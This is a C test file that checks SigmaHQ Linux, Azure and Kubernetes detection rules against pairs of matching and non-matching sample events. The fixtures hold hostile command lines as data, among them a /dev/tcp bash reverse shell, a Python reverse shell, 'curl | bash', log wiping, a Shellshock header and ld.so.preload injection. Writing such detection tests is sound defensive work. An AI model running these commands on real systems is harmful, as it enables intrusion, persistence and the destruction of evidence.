/* Rules of SigmaHQ (VALLUM_SHARED/cases/sigma/rules) over events that were written from what the rules say
 * they are for: each must see one and must not see its like. Through the rule set and the matcher, as a user
 * has it. tests: sigma.c sigma_source.c sigma_detection.c */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/file.h"
#include "rule/program.h"

#define FILE_MAX  (4UL * 1024 * 1024)
#define PATH_MAX_ 4096
#define DEPTH_MAX 8
#define ARENA_MAX (64UL * 1024 * 1024)

static const struct {
    const char *rule;
    enum vl_event_source source;
    const char *yes, *no;
} rows[] = {
    {"proc_creation_lnx_base64_decode", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/base64\", "
        "\"proc.cmdline\": \"base64 -d x\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/base64\", "
        "\"proc.cmdline\": \"base64 x\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_base64_decode", VL_EVENT_LOG,
        "{\"Image\": \"/usr/bin/base64\", \"CommandLine\": \"base64 -D x\"}",
        "{\"Image\": \"/usr/bin/basenc\", \"CommandLine\": \"basenc -d\"}"},
    {"proc_creation_lnx_cap_setgid", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/sbin/setcap\", "
        "\"proc.cmdline\": \"setcap cap_setgid+ep /x\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/sbin/setcap\", "
        "\"proc.cmdline\": \"setcap cap_net_raw+ep /x\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_clear_syslog", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/rm\", "
        "\"proc.cmdline\": \"rm -rf /var/log/syslog\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/rm\", "
        "\"proc.cmdline\": \"rm -rf /var/log/messages\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_clear_syslog", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/bash\", "
        "\"proc.cmdline\": \"bash -c : > /var/log/syslog\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/cat\", "
        "\"proc.cmdline\": \"cat /var/log/syslog\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_clear_syslog", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": "
        "\"/usr/bin/journalctl\", \"proc.cmdline\": \"journalctl --vacuum-size=1M\", \"user.name\": "
        "\"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": "
        "\"/usr/bin/journalctl\", \"proc.cmdline\": \"journalctl -f\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_crontab_removal", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/crontab\", "
        "\"proc.cmdline\": \"crontab -r\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/crontab\", "
        "\"proc.cmdline\": \"crontab -l\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_crypto_mining", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/tmp/a\", "
        "\"proc.cmdline\": \"a --donate-level=0\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/tmp/a\", "
        "\"proc.cmdline\": \"a --level=0\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_omigod_scx_runasprovider_executescript", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/bin/sh\", "
        "\"proc.cmdline\": \"sh /etc/opt/microsoft/scx/conf/tmpdir/scxAB\", \"user.name\": \"root\", "
        "\"proc.cwd\": \"/var/opt/microsoft/scx/tmp\", \"user.loginuid\": 0}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/bin/sh\", "
        "\"proc.cmdline\": \"sh /etc/opt/microsoft/scx/conf/tmpdir/scxAB\", \"user.name\": \"root\", "
        "\"proc.cwd\": \"/root\", \"user.loginuid\": 0}}"},
    {"proc_creation_lnx_python_reverse_shell", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/python3\", "
        "\"proc.cmdline\": \"python3 -c import pty,socket;s.connect(());pty.spawn('sh')\", \"user.name\": "
        "\"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/python3\", "
        "\"proc.cmdline\": \"python3 -c import socket\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_services_stop_and_disable", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": "
        "\"/usr/bin/systemctl\", \"proc.cmdline\": \"systemctl stop nginx\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": "
        "\"/usr/bin/systemctl\", \"proc.cmdline\": \"systemctl start nginx\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_services_stop_and_disable", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/sbin/service\", "
        "\"proc.cmdline\": \"service nginx stop now\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": "
        "\"/usr/bin/systemctl\", \"proc.cmdline\": \"systemctl stop "
        "snap.amazon-ssm-agent.amazon-ssm-agent.service\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_susp_interactive_bash", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/whoami\", "
        "\"proc.cmdline\": \"whoami\", \"user.name\": \"root\", \"proc.pcmdline\": \"bash -i\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/whoami\", "
        "\"proc.cmdline\": \"whoami\", \"user.name\": \"root\", \"proc.pcmdline\": \"bash\"}}"},
    {"proc_creation_lnx_susp_pipe_shell", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/sh\", "
        "\"proc.cmdline\": \"sh -c curl x | bash\", \"user.name\": \"root\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/sh\", "
        "\"proc.cmdline\": \"sh -c curl x | bashful -x\", \"user.name\": \"root\"}}"},
    {"proc_creation_lnx_webshell_detection", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/whoami\", "
        "\"proc.cmdline\": \"whoami\", \"user.name\": \"root\", \"proc.pexepath\": \"/usr/sbin/apache2\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/usr/bin/whoami\", "
        "\"proc.cmdline\": \"whoami\", \"user.name\": \"root\", \"proc.pexepath\": \"/usr/bin/bash\"}}"},
    {"proc_creation_lnx_webshell_detection", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/bin/cat\", "
        "\"proc.cmdline\": \"cat x\", \"user.name\": \"root\", \"proc.pcmdline\": \"/usr/bin/java "
        "-Dcatalina.home=/opt/tomcat\"}}",
        "{\"fields\": {\"evt.type\": \"execve\", \"evt.rawres\": 0, \"proc.exepath\": \"/bin/cat\", "
        "\"proc.cmdline\": \"cat x\", \"user.name\": \"root\", \"proc.pcmdline\": \"/usr/bin/java -jar "
        "x\"}}"},
    {"net_connection_lnx_domain_localtonet_tunnel", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"198.51.100.7\", \"fd.sport\": 443, \"proc.exepath\": \"/tmp/a\", \"fd.sip.name\": "
        "\"abc.localto.net\"}}",
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"198.51.100.7\", \"fd.sport\": 443, \"proc.exepath\": \"/tmp/a\", \"fd.sip.name\": "
        "\"example.org\"}}"},
    {"net_connection_lnx_susp_malware_callback_port", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"198.51.100.7\", \"fd.sport\": 4444, \"proc.exepath\": \"/tmp/a\"}}",
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"10.1.2.3\", \"fd.sport\": 4444, \"proc.exepath\": \"/tmp/a\"}}"},
    {"net_connection_lnx_susp_malware_callback_port", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"198.51.100.7\", \"fd.sport\": 888, \"proc.exepath\": \"/tmp/a\"}}",
        "{\"fields\": {\"evt.type\": \"connect\", \"evt.rawres\": 0, \"fd.type\": \"ipv4\", \"fd.sip\": "
        "\"198.51.100.7\", \"fd.sport\": 443, \"proc.exepath\": \"/tmp/a\"}}"},
    {"net_connection_lnx_susp_malware_callback_port", VL_EVENT_LOG,
        "{\"DestinationIp\": \"2001:db8::1\", \"DestinationPort\": 4444, \"Initiated\": \"true\"}",
        "{\"DestinationIp\": \"fe80::1\", \"DestinationPort\": 4444, \"Initiated\": \"true\"}"},
    {"file_event_lnx_doas_conf_creation", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/doas.conf\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/doas.conf\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": false, \"evt.is_open_read\": true, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}"},
    {"file_event_lnx_persistence_sudoers_files", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/sudoers.d/eve\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": "
        "\"/etc/sudoers.d/README.dpkg-new\", \"fd.typechar\": \"f\", \"evt.is_open_write\": true, "
        "\"evt.is_open_read\": false, \"proc.exepath\": \"/usr/bin/dpkg\"}}"},
    {"file_event_lnx_persistence_sudoers_files", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"rename\", \"evt.rawres\": 3, \"fd.name\": \"/tmp/x\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\", \"evt.arg.newpath\": \"/etc/sudoers.d/x\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/sudoers\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}"},
    {"file_event_lnx_susp_cron_file_created", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/cron.d/x\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/cron.daily/apt\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}"},
    {"file_event_lnx_susp_cron_file_created", VL_EVENT_LOG, "{\"TargetFilename\": \"/etc/crontab\"}",
        "{\"TargetFilename\": \"/etc/cron.daily/dpkg\"}"},
    {"file_event_lnx_susp_shell_script_under_profile_directory", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/profile.d/a.sh\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/etc/profile.d/a.txt\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}"},
    {"file_event_lnx_triple_cross_rootkit_lock_file", VL_EVENT_SYSCALL,
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/tmp/rootlog\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}",
        "{\"fields\": {\"evt.type\": \"openat\", \"evt.rawres\": 3, \"fd.name\": \"/tmp/rootlog2\", "
        "\"fd.typechar\": \"f\", \"evt.is_open_write\": true, \"evt.is_open_read\": false, \"proc.exepath\": "
        "\"/usr/bin/bash\"}}"},
    {"lnx_auditd_magic_system_request_key", VL_EVENT_LOG,
        "{\"type\": \"PATH\", \"name\": \"/proc/sysrq-trigger\"}",
        "{\"type\": \"SYSCALL\", \"name\": \"/proc/sysrq-trigger\"}"},
    {"lnx_auditd_network_service_scanning", VL_EVENT_LOG,
        "{\"type\": \"SYSCALL\", \"exe\": \"/usr/bin/nmap\", \"key\": \"network_connect_4\"}",
        "{\"type\": \"SYSCALL\", \"exe\": \"/usr/bin/nmap\", \"key\": \"x\"}"},
    {"lnx_auditd_susp_exe_folders", VL_EVENT_LOG,
        "{\"type\": \"SYSCALL\", \"exe\": \"/home/bob/public_html/x\"}",
        "{\"type\": \"SYSCALL\", \"exe\": \"/home/bob/bin/x\"}"},
    {"lnx_clamav_relevant_message", VL_EVENT_LOG, "{\"message\": \"/tmp/a: Unix.Trojan.Mirai-1 FOUND\"}",
        "{\"message\": \"/tmp/a: Trojan looked for, nothing\"}"},
    {"lnx_cron_crontab_file_modification", VL_EVENT_LOG,
        "{\"ident\": \"crontab\", \"message\": \"(root) REPLACE (root)\"}",
        "{\"ident\": \"crontab\", \"message\": \"(root) LIST (root)\"}"},
    {"lnx_ldso_preload_injection", VL_EVENT_LOG, "{\"message\": \"echo x > /etc/ld.so.preload\"}",
        "{\"message\": \"ldconfig\"}"},
    {"lnx_privileged_user_creation", VL_EVENT_LOG,
        "{\"message\": \"new user: name=eve, UID=0, GID=0, home=/\"}",
        "{\"message\": \"new user: name=eve, UID=1001, GID=1001, home=/\"}"},
    {"lnx_shell_susp_rev_shells", VL_EVENT_LOG,
        "{\"message\": \"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\"}", "{\"message\": \"cat /dev/tcp\"}"},
    {"lnx_shellshock", VL_EVENT_LOG, "{\"request\": \"GET / HTTP/1.1\", \"agent\": \"() { :;}; /bin/id\"}",
        "{\"request\": \"GET / HTTP/1.1\", \"agent\": \"f() { :; }\"}"},
    {"lnx_symlink_etc_passwd", VL_EVENT_LOG, "{\"message\": \"ln -s /etc/passwd x\"}",
        "{\"message\": \"ln -s /etc/hosts x\"}"},
    {"lnx_syslog_security_tools_disabling_syslog", VL_EVENT_LOG,
        "{\"message\": \"systemd: Stopping firewalld - dynamic firewall\"}",
        "{\"message\": \"systemd: Starting firewalld\"}"},
    {"azure_ad_risky_sign_ins_with_singlefactorauth_from_unknown_devices", VL_EVENT_LOG,
        "{\"AuthenticationRequirement\": \"singleFactorAuthentication\", \"RiskState\": \"atRisk\", "
        "\"Status\": \"Success\", \"DeviceDetail\": {\"trusttype\": \"\"}}",
        "{\"AuthenticationRequirement\": \"singleFactorAuthentication\", \"RiskState\": \"atRisk\", "
        "\"Status\": \"Success\", \"DeviceDetail\": {\"trusttype\": \"Hybrid\"}}"},
    {"azure_ad_risky_sign_ins_with_singlefactorauth_from_unknown_devices", VL_EVENT_LOG,
        "{\"AuthenticationRequirement\": \"singlefactorauthentication\", \"RiskState\": \"atRisk\", "
        "\"Status\": \"success\", \"DeviceDetail\": {}}",
        "{\"AuthenticationRequirement\": \"multiFactorAuthentication\", \"RiskState\": \"atRisk\", "
        "\"Status\": \"Success\"}"},
    {"azure_aadhybridhealth_adfs_service_delete", VL_EVENT_LOG,
        "{\"CategoryValue\": \"Administrative\", \"OperationNameValue\": "
        "\"Microsoft.ADHybridHealthService/services/delete\", \"ResourceId\": \"/x/AdFederationService-1\", "
        "\"ResourceProviderValue\": \"Microsoft.ADHybridHealthService\"}",
        "{\"CategoryValue\": \"Administrative\", \"OperationNameValue\": "
        "\"Microsoft.ADHybridHealthService/services/write\", \"ResourceId\": \"/x/AdFederationService-1\", "
        "\"ResourceProviderValue\": \"Microsoft.ADHybridHealthService\"}"},
    {"azure_dns_zone_modified_or_deleted", VL_EVENT_LOG,
        "{\"operationName\": \"Microsoft.Network/dnsZones/delete\"}",
        "{\"operationName\": \"Microsoft.Network/dnsZones/read\"}"},
    {"azure_keyvault_key_modified_or_deleted", VL_EVENT_LOG,
        "{\"operationName\": \"microsoft.keyvault/vaults/keys/create\"}",
        "{\"operationName\": \"microsoft.keyvault/vaults/read\"}"},
    {"azure_suppression_rule_created", VL_EVENT_LOG,
        "{\"operationName\": \"MICROSOFT.SECURITY/ALERTSSUPPRESSIONRULES/WRITE\"}",
        "{\"operationName\": \"MICROSOFT.SECURITY/ALERTSSUPPRESSIONRULES/DELETE\"}"},
    {"azure_ad_certificate_based_authencation_enabled", VL_EVENT_LOG,
        "{\"OperationName\": \"Authentication Methods Policy Update\", \"TargetResources\": "
        "[{\"modifiedProperties\": [{\"displayName\": \"AuthenticationMethodsPolicy\"}]}]}",
        "{\"OperationName\": \"Authentication Methods Policy Update\", \"TargetResources\": "
        "[{\"modifiedProperties\": [{\"displayName\": \"Other\"}]}]}"},
    {"azure_app_ropc_authentication", VL_EVENT_LOG, "{\"properties\": {\"message\": \"ROPC\"}}",
        "{\"properties\": {\"message\": \"Login\"}}"},
    {"azure_identity_protection_anonymous_ip_activity", VL_EVENT_LOG,
        "{\"riskEventType\": \"riskyIPAddress\"}", "{\"riskEventType\": \"anonymizedIPAddress\"}"},
    {"azure_owner_removed_from_application_or_service_principal", VL_EVENT_LOG,
        "{\"operationName\": \"Remove owner from application\"}",
        "{\"operationName\": \"Add owner to application\"}"},
    {"kubernetes_audit_events_deleted", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"delete\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"events\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"list\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"events\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_exec_into_container", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\", \"subresource\": \"exec\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_exec_into_container", VL_EVENT_LOG,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\", \"subresource\": \"exec\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\", \"subresource\": \"log\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_pod_in_system_namespace", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\", \"namespace\": \"kube-system\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"pods\", \"namespace\": \"shop\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_rbac_permisions_listing", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"create\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"selfsubjectrulesreviews\", \"apiGroup\": \"authorization.k8s.io\"}, \"user\": {\"username\": "
        "\"alice\"}, \"stageTimestamp\": \"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"get\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"selfsubjectrulesreviews\", \"apiGroup\": \"authorization.k8s.io\"}, \"user\": {\"username\": "
        "\"alice\"}, \"stageTimestamp\": \"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_sidecar_injection", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"patch\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"deployments\", \"apiGroup\": \"apps\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\"}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"patch\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"deployments\", \"apiGroup\": \"extensions\"}, \"user\": {\"username\": \"alice\"}, "
        "\"stageTimestamp\": \"2026-11-22T09:57:30.342288Z\"}"},
    {"kubernetes_audit_unauthorized_unauthenticated_actions", VL_EVENT_K8S_AUDIT,
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"get\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"secrets\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\", \"responseStatus\": {\"code\": 403}}",
        "{\"kind\": \"Event\", \"apiVersion\": \"audit.k8s.io/v1\", \"auditID\": \"a\", \"stage\": "
        "\"ResponseComplete\", \"verb\": \"get\", \"requestURI\": \"/x\", \"objectRef\": {\"resource\": "
        "\"secrets\"}, \"user\": {\"username\": \"alice\"}, \"stageTimestamp\": "
        "\"2026-11-22T09:57:30.342288Z\", \"responseStatus\": {\"code\": 200}}"},
};

/* Finds NAME.yml below a folder. */
static bool find_file(const char *folder, const char *name, unsigned depth, char path[PATH_MAX_])
{
    DIR *dir = depth < DEPTH_MAX ? opendir(folder) : NULL;
    bool found = false;
    if (dir == NULL)
        return false;
    for (struct dirent *e = readdir(dir); e != NULL && !found; e = readdir(dir)) {
        char below[PATH_MAX_];
        if (e->d_name[0] == '.')
            continue;
        int n = snprintf(below, sizeof(below), "%s/%s", folder, e->d_name);
        if (n < 0 || (size_t)n >= sizeof(below))
            continue;
        size_t len = strlen(name);
        found = strncmp(e->d_name, name, len) == 0 && strcmp(e->d_name + len, ".yml") == 0;
        if (found)
            (void)snprintf(path, PATH_MAX_, "%s", below);
        else
            found = find_file(below, name, depth + 1, path);
    }
    (void)closedir(dir);
    return found;
}

static int read_event(
    const struct vl_doc *doc, enum vl_event_source source, struct vl_event *ret, struct vl_err *err)
{
    if (source == VL_EVENT_SYSCALL)
        return vl_event_from_recorded(doc, ret, err);
    if (source == VL_EVENT_K8S_AUDIT)
        return vl_event_from_audit(vl_doc_root(doc), ret, err);
    return vl_event_from_log(vl_doc_root(doc), ret, err);
}

/* 1 holds, 0 not, negative: failed. */
static int holds(const struct vl_rule *rule, const char *json, struct vl_err *err)
{
    VL_CLEANUP(vl_arena_cleanup) struct vl_arena *arena = vl_arena_new(ARENA_MAX);
    VL_CLEANUP(vl_doc_cleanup) struct vl_doc *doc = NULL;
    struct vl_event event;
    bool yes = false;
    int r = vl_doc_parse(vl_span_str(json), VL_DOC_JSON, "event", &doc, err);
    if (r >= 0)
        r = read_event(doc, rule->source, &event, err);
    if (r >= 0)
        r = vl_rule_condition_holds(rule->condition, &event, arena, &yes, err);
    return r < 0 ? r : yes;
}

static bool foreign_row(const char *path, size_t i)
{
    VL_CLEANUP(vl_buf_done) struct vl_buf text;
    VL_CLEANUP(vl_ruleset_cleanup) struct vl_ruleset *set = NULL;
    struct vl_err err = VL_ERR_INIT;
    vl_buf_init(&text, FILE_MAX);
    if (vl_file_read(path, FILE_MAX, &text, &err) < 0 || vl_ruleset_new(&set, &err) < 0 ||
        vl_ruleset_add(set, vl_buf_span(&text), path, &err) < 0 || vl_ruleset_finish(set, &err) < 0) {
        (void)printf("%s: %s\n", rows[i].rule, err.msg);
        return false;
    }
    for (uint32_t k = 0; k < vl_ruleset_size(set); k++) {
        const struct vl_rule *rule = vl_ruleset_at(set, k);
        if (rule->source != rows[i].source)
            continue;
        int yes = holds(rule, rows[i].yes, &err), no = holds(rule, rows[i].no, &err);
        if (yes == 1 && no == 0)
            return true;
        (void)printf("%s: sees %d, must not see %d %s\n", rows[i].rule, yes, no, err.msg);
        return false;
    }
    (void)printf("%s: no rule for this source\n", rows[i].rule);
    return false;
}

int main(void)
{
    const char *shared = getenv("VALLUM_SHARED");
    char folder[512], path[PATH_MAX_];
    unsigned passed = 0, there = 0;
    (void)snprintf(folder, sizeof(folder), "%s/cases/sigma/rules", shared != NULL ? shared : "../shared");
    for (size_t i = 0; i < VL_ARRAY_LEN(rows); i++) {
        if (!find_file(folder, rows[i].rule, 0, path))
            continue;
        there++;
        passed += foreign_row(path, i);
    }
    if (there == 0) {
        (void)printf("no rules in %s: set VALLUM_SHARED\n", folder);
        return 77;
    }
    (void)printf("foreign: rule/sigma-events %u/%u\n", passed, there);
    (void)printf("foreign Sigma rules over events: %u of %u rows as the rules mean it\n", passed, there);
    return passed == there && there == VL_ARRAY_LEN(rows) ? 0 : 1;
}
